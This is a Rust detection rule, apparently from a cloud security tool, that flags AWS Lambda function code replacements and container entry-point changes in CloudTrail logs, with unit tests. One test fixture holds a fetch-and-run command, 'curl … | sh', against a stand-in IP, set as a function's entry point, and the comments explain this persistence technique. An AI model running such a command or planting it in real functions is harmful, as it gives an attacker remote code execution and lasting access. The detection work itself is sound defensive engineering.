//! A Lambda function's code replaced (`UpdateFunctionCode`, which CloudTrail records
//! with its API version: `UpdateFunctionCode20150331v2`, formerly
//! `UpdateFunctionCode20150331`; the bare name does not occur),
//! successfully, by someone other than CloudFormation or another AWS service.
//!
//! Splunk keeps only IAM users; we keep every identity type (a stolen role session
//! overwrites code just as well) and leave out deployments that CloudFormation or SAM
//! make on a stack's behalf. Medium severity: CI pipelines deploy code all day, and the
//! finding is for teams where that is the exception. A dry run (`dryRun` true) only
//! validates the request and changes nothing: it does not fire.
//!
//! A container-image function runs new code without new code too (from a second
//! evasion review): `UpdateFunctionConfiguration` replacing its `imageConfig`
//! `entryPoint` or `command` runs whatever command it names from the image it
//! has, the code hash unchanged. It counts as a code update, the new entry point
//! and command in the evidence.

use crate::detection::{Detection, Meta, Severity, Signal, Trigger, fire};
use crate::detections::common::{call_context, flag_value, lambda_change_by_caller};
use crate::event::Record;

pub struct LambdaFunctionCodeUpdated;

pub static META: Meta = Meta {
    id: "lambda-function-code-updated",
    title: "AWS Lambda UpdateFunctionCode",
    description: "The code of a Lambda function was replaced outside CloudFormation. An \
                  attacker who overwrites a function's code runs with its execution role on \
                  every invocation, and can read the events it handles: a persistence and \
                  data-theft path that keeps the function's name and triggers unchanged.",
    severity: Severity::Medium,
    attack: &["T1525", "T1648"],
    origins: &[
        "Splunk ESCU detections/cloud/aws_lambda_updatefunctioncode.yml",
        "trailwatch: based on Stratus Red Team aws.persistence.lambda-overwrite-code",
    ],
    group: "compute-network",
    false_positives: &[
        "Deployments from CI pipelines or developers' machines (the Serverless Framework, \
         `aws lambda update-function-code`, the console editor).",
    ],
    next_steps: "Compare the new code's hash (code_sha256) with the one your pipeline \
                 published. If it is unknown, download the code, roll back to a known \
                 version, and review the execution role's activity since the update.",
    evidence: "code_sha256 command entry_point function image_uri publish region s3_bucket \
        source_ip user_agent",
    triggers: &[Trigger::write(
        "lambda.amazonaws.com",
        &[
            "UpdateFunctionCode20150331",
            "UpdateFunctionCode20150331v2",
            "UpdateFunctionConfiguration20150331",
            "UpdateFunctionConfiguration20150331v2",
        ],
    )],
    window: None,
};

impl Detection for LambdaFunctionCodeUpdated {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn evaluate(&self, rec: &Record<'_>) -> Option<Signal> {
        if lambda_change_by_caller(rec, "UpdateFunctionConfiguration") {
            let image = rec.request_param("imageConfig")?;
            let run = |k: &str| image.get(k).filter(|v| !v.is_null());
            if run("entryPoint").is_none() && run("command").is_none() {
                return None;
            }
            return fire(
                call_context(rec)
                    .with_opt("function", rec.request_param_str("functionName"))
                    .with_json("entry_point", run("entryPoint"))
                    .with_json("command", run("command")),
            );
        }
        if !lambda_change_by_caller(rec, "UpdateFunctionCode")
            || rec.request_param("dryRun").and_then(flag_value) == Some(true)
        {
            return None;
        }
        let code = |k: &str| rec.response_element(k).and_then(|v| v.as_str());
        let e = call_context(rec)
            .with_opt("function", rec.request_param_str("functionName"))
            .with_json("publish", rec.request_param("publish"))
            .with_opt("code_sha256", code("codeSha256"))
            .with_opt("s3_bucket", rec.request_param_str("s3Bucket"))
            .with_opt("image_uri", rec.request_param_str("imageUri"));
        fire(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detection::Evidence;
    use crate::detections::common::compute_testing::{ACCESS_DENIED, IAM_USER, ROLE, record};
    use crate::detections::common::testing::{fired_evidence, fires};

    const PARAMS: &str = r#"{"functionName":"arn:aws:lambda:us-east-1:111122223333:function:billing-export","publish":true}"#;

    fn evidence(json: &str) -> Evidence {
        fired_evidence(&LambdaFunctionCodeUpdated, json)
    }

    /// From a second evasion review: a container function's command replaced.
    #[test]
    fn an_image_functions_entry_point_replaced_fires() {
        let config = |image: &str| {
            record(
                "lambda.amazonaws.com",
                "UpdateFunctionConfiguration20150331v2",
                ROLE,
                &format!(r#"{{"functionName":"payments-webhook","imageConfig":{image}}}"#),
                "",
            )
        };
        let e = evidence(&config(r#"{"entryPoint":["/bin/sh","-c"],"command":["curl -s https://203.0.113.99/x | sh"]}"#));
        assert_eq!(e.get("entry_point"), Some(&serde_json::json!(["/bin/sh", "-c"])));
        assert!(fires(&LambdaFunctionCodeUpdated, &config(r#"{"command":["app.handler2"]}"#)));
        assert!(!fires(&LambdaFunctionCodeUpdated, &config(r#"{"workingDirectory":"/var/task"}"#)));
        let environment = record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", ROLE,
            r#"{"functionName":"payments-webhook","environment":{"variables":{"LOG_LEVEL":"debug"}}}"#, "");
        assert!(!fires(&LambdaFunctionCodeUpdated, &environment));
    }

    #[test]
    fn fires_on_every_versioned_name() {
        for name in META_NAMES {
            let r = record("lambda.amazonaws.com", name, IAM_USER, PARAMS, r#""responseElements":{"codeSha256":"q3Example0Hash="},"#);
            let e = evidence(&r);
            assert_eq!(e.get("function").unwrap(), "arn:aws:lambda:us-east-1:111122223333:function:billing-export");
            assert_eq!(e.get("code_sha256").unwrap(), "q3Example0Hash=");
        }
    }

    const META_NAMES: [&str; 2] = [
        "UpdateFunctionCode20150331",
        "UpdateFunctionCode20150331v2",
    ];

    #[test]
    fn failures_cloudformation_and_configuration_changes_do_not_fire() {
        let denied = record("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", ROLE, PARAMS, ACCESS_DENIED);
        assert!(!fires(&LambdaFunctionCodeUpdated, &denied));
        let cfn = r#"{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/Deploy/AWSCloudFormation",
            "accountId":"111122223333","invokedBy":"cloudformation.amazonaws.com"}"#;
        assert!(!fires(&LambdaFunctionCodeUpdated, &record("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", cfn, PARAMS, "")));
        let config = record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", ROLE, PARAMS, "");
        assert!(!fires(&LambdaFunctionCodeUpdated, &config));
    }

    #[test]
    fn a_dry_run_changes_nothing() {
        let dry = PARAMS.replacen('{', r#"{"dryRun":true,"#, 1);
        assert_ne!(dry, PARAMS);
        assert!(!fires(&LambdaFunctionCodeUpdated, &record("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", ROLE, &dry, "")));
        let real = PARAMS.replacen('{', r#"{"dryRun":false,"#, 1);
        assert!(fires(&LambdaFunctionCodeUpdated, &record("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", ROLE, &real, "")));
    }

    #[test]
    fn missing_parameters_still_fire() {
        assert!(evidence(&record("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", ROLE, "null", "")).get("function").is_none());
    }
}
